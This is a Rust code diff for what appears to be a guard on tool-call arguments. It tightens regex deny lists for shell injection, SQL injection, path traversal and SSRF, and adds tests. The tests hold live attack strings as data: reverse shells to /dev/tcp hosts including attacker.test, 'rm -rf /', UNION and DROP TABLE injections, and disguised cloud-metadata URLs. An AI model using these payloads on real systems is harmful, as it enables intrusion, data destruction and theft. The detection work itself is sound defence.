@@ -72,11 +72,17 @@ fn deny_rules() -> &'static DenyRules {
         };
         const CMD: &str = r"(?:rm|curl|wget|nc|ncat|netcat|bash|sh|zsh|dash|ksh|python[0-9.]*|perl|ruby|php|node|chmod|chown|sudo|su|cat|tac|head|tail|echo|printf|eval|exec|kill|pkill|mkfifo|dd|mv|cp|scp|ssh|base64|xxd|powershell|pwsh|cmd|telnet|socat|id|whoami|uname|env|export|touch|tee|ls|find|xargs|awk|sed)";
         DenyRules {
+            // A command after a separator (with or without its path), a reverse shell
+            // through /dev/tcp, substitutions, redirection into system paths. After a
+            // line break only a lowercase command with an argument counts ("Find
+            // attached" opens an e-mail line, `find / -name` runs).
             shell: re(&format!(
-                r"(?i)\$\(|`[^`]*`|\$\{{[^}}]*\}}|\$IFS|(?:;|&&|\|\|?|\n|\r)\s*{CMD}\b|>>?\s*/(?:etc|dev|tmp|var|root|home|usr|bin|proc)\b|<\(|\b{CMD}\s+-[a-z]*\s+[^\s]*\s*(?:;|&&|\|)"
+                r"(?i)\$\(|`[^`]*`|\$\{{[^}}]*\}}|\$IFS|(?:;|&&|\|\|?)\s*(?:[\w.\-]*/)?{CMD}\b|(?-i:[\n\r][ \t]*(?:[\w.\-]*/)?{CMD}[ \t]+[-/$~.'\x22])|/dev/(?:tcp|udp)/|>>?\s*/(?:etc|dev|tmp|var|root|home|usr|bin|proc)\b|<\(|\b{CMD}\s+-[a-z]*\s+[^\s]*\s*(?:;|&&|\|)"
             )),
+            // SQL comments count as whitespace (`UNION/**/SELECT`); a tautology needs
+            // a literal on its left (`' OR 1=1`, not `'open' AND amount > 200`).
             sql: re(
-                r"(?i);\s*(?:drop|delete|insert|update|alter|create|truncate|exec|execute|grant|revoke|shutdown|declare|merge|replace|rename|attach|copy)\b|'\s*(?:or|and|\|\|)\s*(?:'[^']*'|\d+|true|[a-z_]+)\s*(?:=|<>|!=|like|>|<|is)\s*(?:'[^']*'?|\d+|true|null|[a-z_]+)|\b(?:or|and)\s+(?:1\s*=\s*1|'1'\s*=\s*'1'|true)\b|\bunion\s+(?:all\s+)?select\b|'\s*\)?\s*;?\s*(?:--|#|/\*)|\b(?:sleep|pg_sleep|benchmark)\s*\(\s*\d|\bwaitfor\s+delay\b|\bxp_cmdshell\b|\binto\s+(?:out|dump)file\b|\bload_file\s*\(",
+                r"(?i);(?:\s|/\*[^*]*\*/)*(?:drop|delete|insert|update|alter|create|truncate|exec|execute|grant|revoke|shutdown|declare|merge|replace|rename|attach|copy)\b|'\s*(?:or|and|\|\|)\s*(?:'[^']*'|\d+|true)\s*(?:=|<>|!=|like|>|<|is)\s*(?:'[^']*'?|\d+|true|null|[a-z_]+)|\b(?:or|and)\s+(?:1\s*=\s*1|'1'\s*=\s*'1'|true)\b|\bunion(?:\s|/\*[^*]*\*/)+(?:all(?:\s|/\*[^*]*\*/)+)?select\b|'\s*\)?\s*;?\s*(?:--|#|/\*)|\b(?:sleep|pg_sleep|benchmark)\s*\(\s*\d|\bwaitfor\s+delay\b|\bxp_cmdshell\b|\binto\s+(?:out|dump)file\b|\bload_file\s*\(",
             ),
             path: re(
                 r"(?i)(?:^|[\\/=\s'\x22])\.\.(?:[\\/]|$)|%2e%2e|%252e|\.\.%2f|\.\.%5c|%c0%ae|\.\.;|(?:^|[\s'\x22=:])(?:/etc/(?:passwd|shadow|sudoers|group|hosts|ssh)|/proc/(?:self|\d+)/|/var/run/secrets|/root(?:/|$)|~/\.(?:ssh|aws|kube|gnupg|docker|config)|c:\\windows\\(?:system32|win\.ini)|\\\\[a-z0-9.\-]+\\[a-z$]+)|\x00",
@@ -205,7 +211,12 @@ fn ssrf(value: &str) -> bool {
         let scheme = u.split(':').next().unwrap_or("").to_ascii_lowercase();
         match scheme.as_str() {
             "file" | "gopher" | "dict" | "ldap" | "ldaps" | "jar" | "netdoc" | "tftp" => true,
-            "http" | "https" | "ftp" | "ws" | "wss" => url_host(u).is_some_and(internal_host),
+            // The WHATWG reading of the host: percent-encoded, full-width and every
+            // IPv4 notation resolve to the address a client would connect to.
+            "http" | "https" | "ftp" | "ws" | "wss" => match url::Url::parse(u) {
+                Ok(p) => super::links::host_of(&p).is_some_and(|h| internal_host(&h)),
+                Err(_) => url_host(u).is_some_and(internal_host),
+            },
             _ => false,
         }
     })
@@ -468,6 +479,61 @@ pub(crate) fn check_schema(
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    fn violations(value: &str) -> Vec<ToolViolation> {
+        let args = serde_json::json!({ "v": value }).to_string();
+        check_tool_arguments(None, &args)
+    }
+
+    #[test]
+    fn attacks_in_arguments_and_ordinary_values() {
+        for (value, expected) in [
+            (
+                "http://%31%36%39.254.169.254/latest/meta-data",
+                ToolViolation::Ssrf,
+            ),
+            (
+                "http://\u{ff11}\u{ff12}\u{ff17}.0.0.1/",
+                ToolViolation::Ssrf,
+            ),
+            ("http://0x7f.1/admin", ToolViolation::Ssrf),
+            ("http://[::ffff:169.254.169.254]/", ToolViolation::Ssrf),
+            ("http://metadata.google.internal./x", ToolViolation::Ssrf),
+            (
+                "x; /bin/sh -i >& /dev/tcp/10.0.0.1/4242 0>&1",
+                ToolViolation::ShellInjection,
+            ),
+            (
+                "bash -i >& /dev/tcp/attacker.test/9001",
+                ToolViolation::ShellInjection,
+            ),
+            ("report\nrm -rf /", ToolViolation::ShellInjection),
+            (
+                "1 UNION/**/SELECT password FROM users",
+                ToolViolation::SqlInjection,
+            ),
+            ("x';/**/DROP TABLE users", ToolViolation::SqlInjection),
+            ("' OR 'a'='a", ToolViolation::SqlInjection),
+        ] {
+            assert!(
+                violations(value).contains(&expected),
+                "{value}: {:?}",
+                violations(value)
+            );
+        }
+        for value in [
+            "SELECT * FROM orders WHERE status = 'open' AND amount > 200",
+            "Hi Bob,\nFind attached the report.\nCat and I will call you.",
+            "https://docs.example.com/guide?page=2",
+            "http://example.com/%31%36%39",
+        ] {
+            assert!(
+                violations(value).is_empty(),
+                "{value}: {:?}",
+                violations(value)
+            );
+        }
+    }
 
     #[test]
     fn internal_hosts_in_their_disguises() {
